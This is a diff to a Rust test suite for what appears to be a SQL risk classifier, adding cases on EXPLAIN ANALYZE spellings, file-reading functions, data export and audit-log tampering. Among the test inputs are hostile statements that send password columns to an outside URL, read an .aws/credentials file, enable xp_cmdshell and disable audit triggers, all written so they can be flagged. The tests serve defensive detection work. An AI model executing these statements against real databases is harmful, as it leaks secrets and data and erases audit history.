@@ -141,6 +141,11 @@ fn explain_is_read_only_without_analyze() {
         "EXPLAIN DELETE FROM t",
         "EXPLAIN (FORMAT JSON) DELETE FROM t",
         "EXPLAIN (COSTS false, VERBOSE) UPDATE t SET a = 1",
+        // ANALYZE explicitly disabled, in PostgreSQL's spellings of false.
+        "EXPLAIN (ANALYZE false) DELETE FROM t",
+        "EXPLAIN (ANALYZE off, COSTS on) UPDATE t SET a = 1",
+        "EXPLAIN (ANALYZE 0, FORMAT JSON) DELETE FROM t",
+        "EXPLAIN (\"analyze\" 'off') DELETE FROM t",
     ] {
         assert_eq!(eff(s), Some(Read), "{s}");
     }
@@ -151,7 +156,13 @@ fn explain_is_read_only_without_analyze() {
         "EXPLAIN (ANALYZE true) DELETE FROM t",
         "EXPLAIN (FORMAT JSON, ANALYZE true) DELETE FROM t",
         "explain (analyze, buffers) drop table t",
-        "EXPLAIN (ANALYZE false) DELETE FROM t",
+        "EXPLAIN (ANALYZE on) DELETE FROM t",
+        "EXPLAIN (ANALYZE 1) DELETE FROM t",
+        "EXPLAIN (\"analyze\") DELETE FROM t",
+        "EXPLAIN (BUFFERS, \"analyze\") DELETE FROM t",
+        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
+        "EXPLAIN (ANALYZE yes) DELETE FROM t",
+        "EXPLAIN (ANALYZE 2) DELETE FROM t",
         "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
         "EXPLAIN (ANALYSE) DELETE FROM t",
         "EXPLAIN (ANALYSE true, FORMAT JSON) DELETE FROM t",
@@ -467,4 +478,71 @@ fn vendor_reads_are_proven_and_their_twins_are_not() {
     ] {
         high(s);
     }
+}
+
+#[test]
+fn read_procedures_and_file_readers_have_twins() {
+    for s in [
+        "EXEC sp_spaceused N'dbo.Orders'",
+        "EXEC sp_helptext 'dbo.usp_x'",
+        "EXEC sp_spaceused @objname = N'dbo.Orders', @updateusage = N'false'",
+        "SELECT * FROM read_csv_auto('exports/deletions.csv') LIMIT 10",
+        "SELECT * FROM read_parquet('data/*.parquet')",
+        "SELECT * FROM read_csv('x.csv', header = true, delim = ',')",
+        "SELECT * FROM glob('data/*.json')",
+        "SELECT glob('*.txt', name) FROM files",
+    ] {
+        assert_eq!(eff(s), Some(Read), "{s}");
+    }
+    for s in [
+        "EXEC sp_spaceused N'dbo.Orders', N'true'",
+        "EXEC sp_spaceused @objname = N'dbo.Orders', @updateusage = N'true'",
+        "SELECT * FROM read_csv('https://data.example/x.csv')",
+        "SELECT * FROM read_csv('https://e.example/?d=' || (SELECT password FROM users))",
+        "SELECT * FROM read_text('/home/app/.aws/credentials')",
+        "SELECT * FROM read_csv(current_setting('x'))",
+        "SELECT * FROM \"read_csv\"('x.csv')",
+    ] {
+        assert_eq!(eff(s), Some(Mutating), "{s}");
+    }
+    high("EXEC sp_help 'x'; DROP TABLE t");
+    high("EXEC sp_configure 'xp_cmdshell', 1");
+}
+
+#[test]
+fn data_leaving_and_history_removed() {
+    use Effect::Admin;
+    for s in [
+        "COPY INTO 's3://x/customers/' FROM customers",
+        "INSERT INTO FUNCTION url('http://203.0.113.5/c', 'CSV') SELECT * FROM users",
+        "INSERT INTO TABLE FUNCTION remote('10.0.0.9', db.t) SELECT * FROM users",
+        "INSERT INTO FUNCTION file('out.csv', 'CSV') SELECT * FROM users",
+        "CREATE RULE q AS ON INSERT TO audit_log DO INSTEAD NOTHING",
+        "CREATE OR REPLACE FUNCTION audit_trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
+    ] {
+        assert_eq!(eff(s), Some(Admin), "{s}");
+    }
+    for s in [
+        "DELETE FROM audit_log WHERE id = 5",
+        "UPDATE AuditTrail SET actor = 'x' WHERE id = 5",
+        "ALTER TABLE t SET TBLPROPERTIES ('delta.deletedFileRetentionDuration' = 'interval 0 hours')",
+        "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 3 days')",
+        "ALTER TABLE t SET TBLPROPERTIES ('history.expire.max-snapshot-age-ms' = '0')",
+        "COPY INTO @s FROM orders OVERWRITE = TRUE",
+    ] {
+        assert_eq!(eff(s), Some(Destructive), "{s}");
+    }
+    for s in [
+        "DELETE FROM auditors WHERE id = 5",
+        "COPY INTO @s/out/ FROM orders",
+        "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 30 days')",
+        "CREATE RULE r AS ON UPDATE TO orders DO ALSO INSERT INTO order_log VALUES (1)",
+        "INSERT INTO orders VALUES (1)",
+    ] {
+        assert_eq!(eff(s), Some(Mutating), "{s}");
+    }
+    assert!(rules::audit_name("AuditTrail"));
+    assert!(rules::audit_name("user_audit"));
+    assert!(!rules::audit_name("auditorium"));
+    assert!(!rules::audit_name("orders"));
 }
